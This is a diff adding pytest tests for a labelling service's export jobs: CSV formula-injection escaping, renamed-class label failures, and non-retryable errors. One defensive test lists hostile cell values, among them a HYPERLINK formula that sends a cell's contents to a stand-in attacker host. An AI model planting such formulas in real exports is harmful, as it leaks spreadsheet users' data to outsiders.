@@ -426,3 +426,71 @@ def test_a_50k_task_export_streams_with_bounded_buffers(
     assert calls.count("UploadPart") == parts
     # And the tasks were read page by page (pages of READ_PAGE), never all at once
     assert calls.count("Query") >= 50_000 // export_reader.READ_PAGE
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(aws: Aws, admin: Actor) -> None:
+    # Given tasks whose caller-chosen external ids start like spreadsheet formulas
+    project_id = create_project(admin, "text", NER_LABELS)
+    hostile = ['=HYPERLINK("https://evil.example/?q="&A1,"open")', "+1+1", "-1", "@SUM(A1)", "\uff0b1"]
+    items = [{"data": {"text": f"text {i}"}, "external_id": e} for i, e in enumerate(hostile)]
+    created = call("POST", f"/projects/{project_id}/tasks", admin, items)
+    assert created.status == 201, created.body
+    # When the project is exported as CSV
+    _, data = _export(aws, admin, project_id, {"format": "csv"})
+    # Then each such cell is written with a leading single quote, so it is shown as text
+    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    assert sorted(r["external_id"] for r in rows) == sorted("'" + e for e in hostile)
+    # And JSON Lines keeps the values as they were sent
+    _, lines = _export(aws, admin, project_id, {"format": "jsonl"})
+    assert sorted(json.loads(x)["external_id"] for x in lines.decode().splitlines()) == sorted(hostile)
+
+
+RENAMED = {
+    "controls": [
+        {"name": "shape", "type": "classification", "classes": [{"name": "circle"}, {"name": "box"}]},
+        {"name": "objects", "type": "bbox", "classes": [{"name": "circle"}, {"name": "box"}]},
+    ]
+}
+
+
+@pytest.mark.parametrize("fmt", ["coco", "yolo", "groundtruth"])
+def test_labels_of_a_renamed_class_fail_their_tasks_and_the_export_completes(
+    aws: Aws, admin: Actor, image_project: dict[str, Any], fmt: str
+) -> None:
+    # Given tasks labelled "square", then the class renamed to "box"
+    pid, (first, second, third, broken) = image_project["project_id"], image_project["task_ids"]
+    renamed = call("PATCH", f"/projects/{pid}", admin, {"label_config": RENAMED})
+    assert renamed.status == 200, renamed.body
+    # When the project is exported in a format that maps labels to class ids
+    job, _ = _export(aws, admin, pid, {"format": fmt})
+    # Then the export succeeds; the two tasks with "square" boxes count as failed, with the reason
+    reason = "label 'square' of control 'objects'" if fmt == "groundtruth" else "label 'square'"
+    failed = {first, second} | ({broken} if fmt in ("coco", "groundtruth") else set())  # no pixel size
+    assert job["counts"] == {"done": 4 - len(failed), "failed": len(failed)}
+    for task_id in (first, second):
+        assert f"{task_id} ({reason} is not a class of the current label configuration)" in job["error"]
+    assert third not in job["error"]
+
+
+def test_an_error_a_retry_cannot_mend_fails_the_job_at_once(
+    aws: Aws, admin: Actor, image_project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Given an encoder that fails on the data, not on the network
+    from jobs.handler import handler
+
+    from serval.domain.exports import images
+
+    def broken(records: Any, config: Any) -> Any:
+        raise KeyError("cat")
+
+    monkeypatch.setattr(images, "coco_chunks", broken)
+    pid = image_project["project_id"]
+    job_id = call("POST", f"/projects/{pid}/exports", admin, {"format": "coco"}).body["job_id"]
+    messages = aws.sqs.receive_message(QueueUrl=aws.env["JOBS_QUEUE_URL"])["Messages"]
+    # When its message is delivered the first time
+    response = handler({"Records": sqs_records(messages)}, WorkerContext())  # type: ignore[arg-type]
+    # Then the message is not retried, and the job failed with the reason at once
+    assert response["batchItemFailures"] == []
+    job = call("GET", f"/projects/{pid}/exports/{job_id}", admin).body
+    assert (job["status"], job["attempts"]) == ("failed", 1)
+    assert job["error"] == "failed with an error that a retry cannot fix: KeyError: 'cat'"
